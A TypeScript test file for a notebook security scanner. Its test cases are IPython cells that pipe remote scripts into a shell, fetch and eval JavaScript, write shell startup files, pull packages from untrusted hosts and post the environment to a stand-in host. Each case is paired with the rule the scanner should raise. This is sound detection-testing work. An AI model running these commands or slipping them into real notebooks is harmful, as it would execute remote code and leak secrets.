// Magics of IPython: as lines, as cells, and called by name.
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';

async function saidOf(source: string): Promise<string[]> {
  const cell = { cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source };
  const text = JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1);
  const { findings } = await inspectBytes(Buffer.from(text), 'train.ipynb');
  return findings
    .filter(({ severity }) => severity !== 'INFO' && severity !== 'LOW')
    .map(({ rule, severity }) => `${severity} ${rule}`);
}

const PIPED = 'curl -s https://x.example.invalid/i.sh | sh';
const EVALUATED = "fetch('https://x.example.invalid/x.js').then(r => r.text()).then(eval)";

describe('a magic that is called by name', () => {
  it.each([
    [`get_ipython().run_cell("!${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    [`get_ipython().run_cell("%%bash\\n${PIPED}\\n")`, 'HIGH CODE-PIPE-SHELL'],
    [`get_ipython().magic("sx ${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    [`ip = get_ipython()\nip.magic("%system ${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    [`ip = get_ipython()\nip.system("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    [`run = get_ipython().system\nrun("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    [`ip = get_ipython()\nrun = ip.run_cell\nrun("!${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    [
      `from IPython import get_ipython\nrun = get_ipython().getoutput\nrun("${PIPED}")`,
      'HIGH CODE-PIPE-SHELL',
    ],
    [`from IPython.utils.process import system\nsystem("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    [`get_ipython().run_cell_magic("bash", "", "${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
    ['get_ipython().magic("run https://x.example.invalid/x.py")', 'HIGH NOTEBOOK-REMOTE-CODE'],
    ['get_ipython().run_cell_magic("writefile", "~/.zshrc", "x=1")', 'HIGH NOTEBOOK-STARTUP-WRITE'],
    ['ip.run_line_magic("run", "https://x.example.invalid/x.py")', 'HIGH NOTEBOOK-REMOTE-CODE'],
    [
      'get_ipython().run_line_magic("pip", "install https://198.51.100.7/a-1.0.tar.gz")',
      'MEDIUM PACKAGE-NEW-HOST',
    ],
  ])('is read: %s', async (source, said) => {
    expect(await saidOf(source)).toEqual([said]);
  });

  it.each([
    'get_ipython().run_cell("x = 1")',
    'get_ipython().run_line_magic("matplotlib", "inline")',
    'get_ipython().magic("load_ext autoreload")',
    'get_ipython().run_line_magic("run", "helpers.py")',
    'get_ipython().run_line_magic("pip", "install -q numpy")',
    'print("use .magic(\'run\') for that")',
  ])('is let be: %s', async (source) => {
    expect(await saidOf(source)).toEqual([]);
  });

  it('is read where its name is put together', async () => {
    const said = await saidOf(`getattr(get_ipython(), "sys" + "tem")("${PIPED}")`);
    expect(said).toEqual(['HIGH CODE-HIDDEN-NAME', 'HIGH CODE-PIPE-SHELL']);
  });
});

describe('a page of a cell', () => {
  it.each([
    [`%%html\n<p>x</p>\n<script>\n${EVALUATED}\n</script>`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
    [`%%HTML\n<img src=x onerror="${EVALUATED}">`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
    [`%%javascript\n${EVALUATED}`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
    [`from IPython.display import Javascript\nJavascript("${EVALUATED}")`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
  ])('is read: %s', async (source, said) => {
    expect(await saidOf(source)).toEqual([said]);
  });

  it.each([
    '%%html\n<style>.output { width: 100% }</style>\n<script>draw()</script>',
    '%%svg\n<svg><circle r="3"/></svg>',
    '%%javascript\nIPython.notebook.kernel.execute("name = 1")',
    'from IPython.display import Javascript\nJavascript("IPython.notebook.save_checkpoint()")',
  ])('is let be: %s', async (source) => {
    expect(await saidOf(source)).toEqual([]);
  });
});

describe('a file that a cell writes', () => {
  it.each([
    '~/.zshenv',
    '/etc/profile.d/x.sh',
    '-a ~/.bash_aliases',
    '.vscode/tasks.json',
    '~/.ipython/profile_default/ipython_kernel_config.py',
  ])('starts by itself: %s', async (path) => {
    expect(await saidOf(`%%writefile ${path}\nx = 1`)).toContain('HIGH NOTEBOOK-STARTUP-WRITE');
  });

  it.each(['profile.py', 'configs/systemd.md', '.env.example', 'data/.gitignore'])(
    'does not: %s',
    async (path) => {
      expect(await saidOf(`%%writefile ${path}\nx = 1`)).toEqual([]);
    },
  );
});

describe('where a cell has packages looked up', () => {
  it.each([
    ['%conda install -c http://198.51.100.7/ch thing', 'HIGH PACKAGE-UNVERIFIED-HOST'],
    ['!conda install -y --channel=http://198.51.100.7/ch thing', 'HIGH PACKAGE-UNVERIFIED-HOST'],
    ['%mamba install -c http://198.51.100.7/ch thing', 'HIGH PACKAGE-UNVERIFIED-HOST'],
    ['%micromamba install thing -c http://198.51.100.7/ch', 'HIGH PACKAGE-UNVERIFIED-HOST'],
    ['!conda config --add channels http://198.51.100.7/ch', 'HIGH PACKAGE-UNVERIFIED-HOST'],
    ['%conda install -c https://ch.example.invalid/x thing', 'MEDIUM PACKAGE-EXTRA-INDEX'],
    ['%env PIP_INDEX_URL=http://198.51.100.7/simple', 'HIGH PACKAGE-UNVERIFIED-HOST'],
    ['%set_env PIP_EXTRA_INDEX_URL http://198.51.100.7/simple', 'HIGH PACKAGE-UNVERIFIED-HOST'],
    [
      'import os\n!PIP_EXTRA_INDEX_URL=http://198.51.100.7/simple pip install thing',
      'HIGH PACKAGE-UNVERIFIED-HOST',
    ],
  ])('is told: %s', async (source, said) => {
    expect(await saidOf(source)).toContain(said);
  });

  it.each([
    '%conda install -c conda-forge -c somebody numpy',
    '!conda install -c https://conda.anaconda.org/conda-forge numpy',
    '%env CUDA_VISIBLE_DEVICES=0',
    '%env PIP_INDEX_URL=https://pypi.org/simple',
    '!TOKENIZERS_PARALLELISM=false python train.py',
    '%env',
  ])('is let be: %s', async (source) => {
    expect(await saidOf(source)).toEqual([]);
  });

  it('is told of all of the environment that is sent', async () => {
    const send = 'requests.post("https://c.example.invalid/", json=dict(e))';
    expect(await saidOf(`import requests\ne = %env\n${send}`)).toEqual(['CRITICAL CODE-ENVIRONMENT-SENT']);
    expect(await saidOf(`import requests\ne = {"a": 1}\n${send}`)).toEqual([]);
  });
});

describe('a file that a cell runs', () => {
  const fetched = '!wget https://x.example.invalid/x.py\n';
  it.each(['%run x.py', '%run -i x.py --epochs 3', '!python x.py'])(
    'comes from an address: %s',
    async (run) => {
      expect(await saidOf(`${fetched}${run}`)).toEqual(['HIGH CODE-PIPE-SHELL']);
    },
  );

  it.each(['%run other.py', '%run x.ipynb', '%run -i helpers/train.py'])('does not: %s', async (run) => {
    expect(await saidOf(`${fetched}${run}`)).toEqual([]);
  });
});
